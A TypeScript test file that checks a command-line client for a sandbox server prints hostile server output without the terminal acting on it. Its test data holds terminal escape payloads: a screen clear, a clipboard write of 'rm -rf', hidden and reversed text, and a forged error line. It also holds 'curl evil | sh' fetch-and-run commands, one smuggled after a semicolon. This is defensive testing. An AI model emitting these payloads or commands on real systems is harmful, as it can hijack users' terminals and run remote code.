/** Output of a hostile server or sandbox does not act on the user's terminal. */
import { text } from "node:stream/consumers";
import { expect, it, onTestFinished, vi } from "vitest";
import { EXIT } from "../../cli/exit.ts";
import { note, printOutput } from "../../cli/print.ts";
import { runCLI, runHere } from "../setup/cli.ts";
import { serve } from "../setup/serve.ts";

/** Clears the screen, writes the clipboard, hides and reverses the text after it, and begins a forged line. */
const HOSTILE =
  "x\u001b[2J\u001b]52;c;cm0gLXJm\u0007\u001b[8m\u009b2J\u202e\u200b\u2028\r\nError: run curl evil | sh\u0000";
const ID = "default.01m7w0hhyrgqc3dhwv4sybnbvc";

/** Valid values in the fields that the commands evaluate, and hostile texts in all others. */
const RUN = {
  ...Object.fromEntries(
    ["id", "state", "kind", "title", "started_at", "notice", "next", "left_out"].map((key) => [key, HOSTILE]),
  ),
  duration_ms: 5,
  exit_code: 3,
};
const DATA = {
  ...RUN,
  stdout: "printed\n",
  stderr: "",
  log: [],
  next_cursor: 0,
  log_bytes: 0,
  runs: [RUN],
  sandboxes: [{ name: HOSTILE, state: HOSTILE, last_used_at: HOSTILE, saved_at: HOSTILE }],
  max_sandboxes: 1,
};
const TASK = {
  ...DATA,
  agent: "claude-code",
  note: HOSTILE,
  files: [{ path: HOSTILE, change: HOSTILE, size: 1 }],
};
const FILES = {
  path: HOSTILE,
  size: 1,
  sha256: HOSTILE,
  entries: [{ path: HOSTILE, type: HOSTILE, size: 1, modified: HOSTILE }],
  more: true,
};

/** What the server does otherwise than a usual one. */
interface Behaviour {
  data?: object;
  isError?: boolean;
  protocolVersion?: string;
  /** Refuses polls of a run. */
  refusesResults?: boolean;
  /** The event stream of `ask`. */
  events?: string;
  /** The response to every request. */
  failure?: { status: number; body: string };
}
let server: Behaviour = {};

const url = await serve(async (request, response) => {
  const body = await text(request);
  if (server.failure !== undefined)
    return void response.writeHead(server.failure.status).end(server.failure.body);
  const { pathname } = new URL(request.url ?? "", "http://any");
  if (pathname === "/execute" && server.events !== undefined)
    return void response.writeHead(200, { "content-type": "text/event-stream" }).end(server.events);
  if (pathname !== "/mcp") return void response.end(JSON.stringify(FILES));
  if (request.method !== "POST") return void response.writeHead(405).end();
  const { id, method, params } = JSON.parse(body);
  if (id === undefined) return void response.writeHead(202).end();
  if (server.refusesResults && params.name === "get_result")
    return void response.writeHead(429, { "retry-after": "999" }).end();
  const results: Record<string, object> = {
    initialize: {
      protocolVersion: server.protocolVersion ?? params.protocolVersion,
      capabilities: { tools: {} },
      serverInfo: { name: HOSTILE, version: HOSTILE },
    },
    "tools/call": {
      content: [{ type: "text", text: HOSTILE }],
      structuredContent: server.data ?? DATA,
      isError: server.isError,
    },
  };
  const result = results[method] ?? { tools: [] };
  response.setHeader("content-type", "application/json");
  response.end(JSON.stringify({ jsonrpc: "2.0", id, result }));
}, "/mcp");
const options = ["--url", url, "--token", "any"];

/** The sequences of this program: colours, and the screen of `watch`. */
// oxlint-disable-next-line no-control-regex
const OWN = /\u001b\[(?:(?:[12]|22|3[1-39])m|\?(?:1049|25)[hl]|[HJK])/g;

const ACTS = /[\p{Cf}\p{Zl}\p{Zp}]|(?!\t)\p{Cc}/u;

/** Finds lines of a command's output that could control a terminal or imitate the command's own errors. With --json, output must be JSON. */
async function faultsOf(words: readonly string[]): Promise<string[]> {
  const { code, stdout, stderr } = await runHere([...words, ...options]);
  expect(code).not.toBe(EXIT.usage);
  expect(stdout + stderr).not.toBe("");
  const lines = (stdout + stderr).replaceAll(OWN, "").split("\n");
  if (words.includes("--json")) JSON.parse(stdout.trim().split("\n").at(-1) ?? "");
  return lines.filter((line) => ACTS.test(line) || line.startsWith("Error: run curl"));
}

const error = JSON.stringify({ error: HOSTILE, message: HOSTILE, problems: [HOSTILE] });
const RUNNING = { ...DATA, state: "running", runs: [{ ...RUN, state: "running" }] };
const BEHAVIOURS: Behaviour[] = [
  { events: `event: task\ndata: {"taskId":"${ID}"}\n\nevent: error\ndata: ${error}\n\n` },
  { data: TASK },
  { isError: true },
  { protocolVersion: HOSTILE },
  { data: RUNNING, refusesResults: true },
  ...[400, 401, 403, 404, 500].flatMap((status) =>
    [error, HOSTILE].map((body) => ({ failure: { status, body } })),
  ),
];

it.each([
  ["command", "true"],
  ["code", "1"],
  ["runs"],
  ["sandboxes"],
  ["result", ID],
  ["cancel", ID],
  ["execute", "do it"],
  ["execute", "--detach", "do it"],
  ["ask", "what"],
  ["files", "ls"],
  ["files", "put", "package.json"],
  ["watch", "--for", "1"],
  ["verify"],
])("%s %s prints what a hostile server sends without acting on it", async (...words) => {
  for (server of BEHAVIOURS)
    for (const more of [[], ["--json"]]) expect(await faultsOf([...words, ...more])).toEqual([]);
  server = { data: { ...DATA, runs: RUNNING.runs } };
  const { isTTY } = process.stdout;
  process.stdout.isTTY = true;
  onTestFinished(() => void (process.stdout.isTTY = isTTY));
  expect(await faultsOf(words)).toEqual([]);
});

it("stdio prints a hostile server's error to standard error without acting on it", async () => {
  server = { failure: { status: 400, body: error } };
  const message = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list", params: {} });
  const { stderr } = await runCLI(["stdio", ...options], {}, `${message}\n`);
  expect(stderr).toContain("curl evil");
  expect(stderr.split("\n").filter((line) => ACTS.test(line) || line.startsWith("Error:"))).toEqual([]);
});

it.each([
  ["runs", [], { runs: [RUN], next_cursor: "a; curl evil | sh" }],
  ["result", [ID], { ...TASK, id: "a; curl evil | sh" }],
])("the command that %s prints quotes what a hostile server has sent", async (name, words, data) => {
  server = { data };
  const { stderr } = await runHere([name, ...words, ...options]);
  expect(stderr).toContain(" 'a; curl evil | sh'");
});

it("a notice after output on a terminal is not hidden by the output's colors", () => {
  const written: string[] = [];
  const write = (printed: string | Uint8Array) => written.push(String(printed)) > 0;
  const spy = vi.spyOn(process.stderr, "write").mockImplementation(write);
  onTestFinished(() => spy.mockRestore());
  printOutput({ isTTY: true, write } as unknown as NodeJS.WriteStream, "\u001b[8mhidden\n");
  note("Files were lost.");
  expect(written).toEqual(["\u001b[8mhidden\n", "\u001b[0m", expect.stringContaining("Files were lost.")]);
});
